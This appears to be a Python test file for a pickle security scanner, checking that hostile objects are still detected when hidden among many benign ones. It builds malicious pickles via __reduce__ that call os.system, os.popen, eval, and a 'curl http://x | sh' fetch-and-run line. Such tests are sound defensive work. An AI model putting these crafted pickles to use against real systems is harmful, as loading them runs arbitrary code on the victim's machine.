"""A hostile object among many is seen as alone, wherever it stands and whatever surrounds it."""

from __future__ import annotations

import collections
import copyreg
import datetime
import decimal
import fractions
import functools
import os
import pickle
from collections.abc import Mapping

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mlsec.artifacts.bytes.window import Window
from mlsec.artifacts.inspect.inspect import inspect
from mlsec.artifacts.limits import Limits
from tests.artifacts.builders import pickles as make
from tests.artifacts.pickle import test_acting_objects as acts
from tests.artifacts.shapes_of_objects import MIXED, NEW_ONLY, SHAPES, Items, Plain, Point, Reduced

PROGRAM = "exec('x')"
Said = frozenset[tuple[object, ...]]


class Lie:
    """Stored as a call of our choice, perhaps with a state."""

    def __init__(
        self,
        made_by: object,
        *arguments: object,
        state: object = None,
        items: Mapping[object, object] | None = None,
    ) -> None:
        self.parts = (made_by, arguments, state) if state else (made_by, arguments)
        if items:
            self.parts = (made_by, arguments, state, None, None)
        self.items = items

    def __reduce__(self) -> tuple[object, ...]:
        *parts, last = self.parts
        return (*parts, iter(self.items.items())) if self.items else (*parts, last)


class Posing(Lie):
    """Stored by NEWOBJ, which picklers only write for an object of that very class."""

    __class__ = property(lambda self: self.parts[1][0])  # type: ignore[assignment]


HOSTILE = {
    "a command": Lie(os.system, "id"),
    "a program for Decimal": Lie(decimal.Decimal, PROGRAM),
    "a program for datetime": Lie(datetime.datetime, b"exec('x').."),
    "a program for Fraction": Lie(fractions.Fraction, PROGRAM, PROGRAM),
    "a program in a Counter": Lie(collections.Counter, {PROGRAM: 1}),
    "a program in a deque": Lie(collections.deque, [PROGRAM]),
    "a number that swells": Lie(bytearray, 1 << 40),
    "a stored function": Lie(functools.partial, eval, PROGRAM),
    "a command as a factory": Lie(collections.defaultdict, Lie(os.popen, "id")),
    "a hook in a state": Lie(Plain, state={"number": 1, "__class__": 1}),
    "a hook in slots": Lie(Plain, state=(None, {"left": 1, "__class__": 1})),
    "a hook in a table of a state": Plain(number=1, inner={"__call__": Plain(number=2)}),
    "a hook among tables": Plain(number=1, inner={"__call__": print}),
    "a hook among items": Lie(Items, state=None, items={"__call__": Plain(number=1)}),
    "a function for a method": Plain(number=1, items=print),
    "a command within": Plain(number=1, text=Lie(os.system, "id")),
    "a command in a tuple": Point(1, Lie(os.system, "id")),
    "a command given to a class": Lie(Reduced, 1, "curl http://x | sh"),
}  # fmt: skip


def said(data: bytes) -> Said:
    found = inspect(Window.of(data), Limits(cpu_s=60))
    facts = {(fact.kind, fact.subject, fact.detail, fact.danger) for fact in found.facts}
    return frozenset(facts | {(gap.reason, gap.detail) for gap in found.gaps})


def named(found: Said) -> frozenset[tuple[object, ...]]:
    """The kinds and subjects of facts: which of several calls of a name is told may differ."""
    return frozenset(one[:2] for one in found if len(one) > 2)


WITH_CALLS = sorted(SHAPES.keys() - {"set", "frozenset", "bytes", "complex"})


@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
@pytest.mark.parametrize("shape", SHAPES)
def test_what_is_said_of_many_objects_is_what_is_said_of_few(shape: str, protocol: int) -> None:
    if protocol < 2 and shape in NEW_ONLY:
        return
    many = [SHAPES[shape](number) for number in range(900)]
    few = said(pickle.dumps([*many[:2], *many[-2:]], protocol))
    assert said(pickle.dumps(many, protocol)) == few


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    name=st.sampled_from(sorted(MIXED)), protocol=st.sampled_from((0, 2, 4)),
    lie=st.sampled_from(sorted(HOSTILE)),
    place=st.floats(0, 1),
    within=st.sampled_from(("alone", "list", "dict", "tuple", "object", "deep")),
)  # fmt: skip
def test_a_hostile_object_in_a_mixed_stream_is_seen(
    name: str, protocol: int, lie: str, place: float, within: str
) -> None:
    many, hostile = MIXED[name](70), HOSTILE[lie]
    honest = said(pickle.dumps([*many, Plain(number=0), Point(1, 2), Reduced(1, "a")], protocol))
    wrapped = {
        "alone": hostile, "list": [*range(40), hostile, *range(40)], "dict": {"a": 1, "b": hostile},
        "tuple": (1, hostile, 2), "object": collections.OrderedDict(a=[hostile]),
        "deep": [{"a": (1, [{"b": [hostile]}])}],
    }[within]  # fmt: skip
    many.insert(int(place * len(many)), wrapped)
    found = said(pickle.dumps(many, protocol))
    assert found - honest
    assert named(found) >= named(said(pickle.dumps([hostile], protocol)))


def containers(value: object) -> Mapping[str, object]:
    many = [value, *range(900)]
    return {
        "list": many, "late": [*range(200), *many], "tuple": tuple(many),
        "set": {value, *range(10**6, 10**6 + 200)},
        "texts": [value, *map(str, range(900))], "keys": dict.fromkeys(many),
        "dict": {"a": value, **{f"k{n}": n for n in range(900)}},
    }  # fmt: skip


@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
@pytest.mark.parametrize("kind", containers(""))
def test_what_long_containers_hold_is_judged_when_they_are_given_to_a_call(
    kind: str, protocol: int
) -> None:
    data = pickle.dumps(Lie(Reduced, containers(PROGRAM)[kind]), protocol)
    assert said(data) != said(pickle.dumps(Lie(Reduced, containers("word")[kind]), protocol))


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    shape=st.sampled_from(sorted(SHAPES)), protocol=st.sampled_from((0, 2, 4, 5)),
    lie=st.sampled_from(sorted(HOSTILE)),
    place=st.integers(0, 700),
    is_alone=st.booleans(),
)  # fmt: skip
def test_a_hostile_object_among_many_is_seen(
    shape: str, protocol: int, lie: str, place: int, is_alone: bool
) -> None:
    protocol = 2 if shape in NEW_ONLY and protocol < 2 else protocol
    many = [SHAPES[shape](number) for number in range(700)]
    honest = said(pickle.dumps([*many, Plain(number=0), Point(1, 2), Reduced(1, "a")], protocol))
    values = [*many[:place], HOSTILE[lie], *many[place:]]
    found = said(pickle.dumps(values if is_alone else [*many, values], protocol))
    assert found - honest
    assert named(found) >= named(said(pickle.dumps([HOSTILE[lie]], protocol)))


OTHERS = (
    (), (PROGRAM,), ([PROGRAM],), ({PROGRAM: PROGRAM},), (b"exec('x')",), (1 << 40,), (1, 1, 1),
    (1, PROGRAM), (PROGRAM, PROGRAM, PROGRAM, PROGRAM), ((PROGRAM,), PROGRAM),
)  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    shape=st.sampled_from(sorted(SHAPES)), protocol=st.sampled_from((2, 4)),
    given_=st.sampled_from(OTHERS), place=st.integers(300, 700),
)  # fmt: skip
def test_the_same_call_with_other_arguments_is_told_as_alone(
    shape: str, protocol: int, given_: tuple[object, ...], place: int
) -> None:
    many = [SHAPES[shape](number) for number in range(700)]
    parts = many[0].__reduce_ex__(protocol)
    made_by, with_ = parts[:2] if isinstance(parts, tuple) else (Reduced, ())
    # What picklers write as NEWOBJ is a call of the first argument.
    first = with_[:1] if made_by in (copyreg.__newobj__, copyreg.__newobj_ex__) else ()  # type: ignore[attr-defined]
    lie = Posing(copyreg.__newobj__, *first, *given_) if first else Lie(made_by, *given_)  # type: ignore[attr-defined]
    found = said(pickle.dumps([*many[:place], lie, *many[place:]], protocol))
    assert named(found) >= named(said(pickle.dumps([lie], protocol)))


@pytest.mark.parametrize("name", acts.HOSTILE)
def test_what_acts_is_seen_among_many_that_differ_only_in_what_is_given(name: str) -> None:
    hostile = b"".join(acts.HOSTILE[name])
    alike = hostile.replace(acts.RUN, b"K\1").replace(make.text("x()"), make.text("a"))
    for many in (alike, alike.replace(acts.COUNT, b"K\1"), b"".join(acts.HONEST["fraction"])):
        data = make.stream(b"](", many * 150, hostile, many * 20, b"e")
        found = said(data)
        assert found >= said(make.stream(hostile)) - said(make.stream(many))
